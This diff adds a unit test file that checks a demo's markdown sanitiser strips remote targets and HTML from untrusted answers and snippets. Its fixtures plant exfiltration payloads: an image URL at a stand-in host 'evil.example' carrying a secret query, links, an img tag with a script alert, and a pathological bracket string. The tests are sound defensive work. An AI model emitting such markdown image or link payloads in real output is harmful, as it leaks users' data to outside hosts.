@@ -1,0 +1,44 @@
+"""The demo shows answers and document snippets, which are untrusted: nothing in them may make
+the viewer's browser load a remote resource or run HTML."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from markdown_it import MarkdownIt
+
+from demo.render import safe_markdown
+
+pytestmark = pytest.mark.unit
+
+MARKDOWN = MarkdownIt("commonmark", {"html": True, "linkify": False})
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "See ![logo](https://evil.example/collect?q=secret-question) here.",
+        "Click [docs](https://evil.example/?q=x) now.",
+        '<img src="https://evil.example/p.png"> and <script>alert(1)</script>',
+        "[ref]: https://evil.example/?q=x\n\nSee [it][ref].",
+        "!\\[escaped](https://evil.example/x)",
+    ],
+    ids=["image", "link", "html", "reference", "escaped-image"],
+)
+def test_untrusted_markdown_loses_every_remote_target(planted: str) -> None:
+    html = MARKDOWN.render(safe_markdown(planted))  # a CommonMark renderer, as the browser gets it
+    assert "<img" not in html and "<script" not in html and "href=" not in html, html
+
+
+def test_ordinary_answers_keep_their_text_and_citations() -> None:
+    answer = "Backups are kept for **35 days** [1][2].\n\n- nightly\n- encrypted"
+    assert safe_markdown(answer) == answer
+    assert "<strong>35 days</strong> [1][2]" in MARKDOWN.render(safe_markdown(answer))
+
+
+def test_rendering_is_linear_on_hostile_input() -> None:
+    hostile = "![" * 20_000 + "[" * 20_000 + "](" * 20_000
+    started = time.process_time()
+    safe_markdown(hostile)
+    assert time.process_time() - started < 1.0
